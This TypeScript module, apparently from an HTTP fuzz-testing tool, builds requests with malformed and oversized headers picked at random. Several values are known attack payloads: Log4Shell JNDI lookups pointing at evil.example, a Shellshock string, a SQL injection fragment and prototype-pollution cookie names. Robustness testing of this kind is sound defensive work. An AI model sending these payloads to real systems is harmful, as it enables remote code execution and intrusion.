import type { Random } from '#platform/random.ts';
import type { Draft } from './draft.ts';

/** Headers that mean something to frameworks, proxies or loggers; well-formed as HTTP goes. */
const HEADERS: readonly (readonly [name: string, values: readonly string[]])[] = [
  [
    'Accept',
    ['text/html', 'application/xml;q=1', '*/*;q=9', ',', 'a'.repeat(5_000), 'application/json;version=2'],
  ],
  ['Accept-Encoding', ['gzip;q=0, identity;q=0', '*;q=0', 'br, '.repeat(500)]],
  ['Accept-Language', ['xx', `${'de,'.repeat(1_000)}`]],
  ['Range', ['bytes=0-0,1-1,2-2', 'bytes=-1', 'bytes=9-0']],
  ['Origin', ['null', 'http://evil.example']],
  [
    'Cookie',
    [
      '=; ;;=',
      `__Host-sso=${'a'.repeat(4_000)}`,
      '__proto__=1; constructor=2',
      'a="\\"',
      `${'a=b; '.repeat(800)}`,
    ],
  ],
  [
    'traceparent',
    [
      '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01',
      '00-00000000000000000000000000000000-0000000000000000-00',
      'ff-x',
      '00-4BF92F3577B34DA6A3CE929D0E0E4736-00F067AA0BA902B7-01',
      'x'.repeat(3_000),
    ],
  ],
  ['tracestate', ['a=b,'.repeat(300), '=', '\t']],
  ['baggage', ['a=b;c=%zz', 'x='.repeat(2_000)]],
  [
    'X-Forwarded-For',
    ['127.0.0.1', "1.1.1.1, ' OR 1=1", '::1%lo', '999.999.999.999', `${'1.1.1.1,'.repeat(900)}`],
  ],
  ['Forwarded', ['for="[::1]";host=evil.example;proto=x', 'for=_hidden, for=;']],
  ['X-Forwarded-Proto', ['javascript', 'https, http']],
  ['X-Request-Id', ['a'.repeat(3_000), '${jndi:ldap://evil.example/x}', '\x1b[2J']],
  ['User-Agent', ['() { :; }; echo', '', '${jndi:ldap://evil.example/x}']],
  ['Idempotency-Key', ['', 'a b', 'é', 'x'.repeat(300), '"quoted"']],
  ['If-Match', ['', '""', '"', 'W/"1"', '*, "1"', '"1", '.repeat(300), '"99999999999999999999"', '1']],
  ['If-None-Match', ['', '"', 'W/', '*,*', '"-1"', '"1.5"']],
  ['If-Modified-Since', ['yesterday']],
  ['Content-Type', ['application/json', 'text/plain', 'x', ';']],
  ['Content-MD5', ['x']],
  ['TE', ['trailers, deflate;q=0.5']],
  ['Connection', ['keep-alive, close', 'x-y']],
  ['Expect', ['100-continue']],
  ['Max-Forwards', ['0']],
  ['X-Application-Key', ['demo-backend', '', 'x'.repeat(300), "'", 'é']],
  [
    'Authorization',
    [
      'Bearer',
      'Bearer ',
      'Basic dXNlcjpwYXNz',
      'Negotiate YII=',
      'Digest username="x"',
      'bearer x',
      'Bearer\tx',
      'x'.repeat(9_000),
      'Negotiate !!!',
    ],
  ],
];

/** Adds one to four odd headers; says which. */
export function addOddHeaders(draft: Draft, random: Random): string {
  const names = Array.from({ length: random.integer(1, 4) }, () => {
    const [name, values] = random.pick(HEADERS);
    draft.headers = draft.headers.filter(([other]) => other !== name || random.chance(0.2));
    draft.headers.push([name, random.pick(values)]);
    return name;
  });
  return names.join(', ');
}
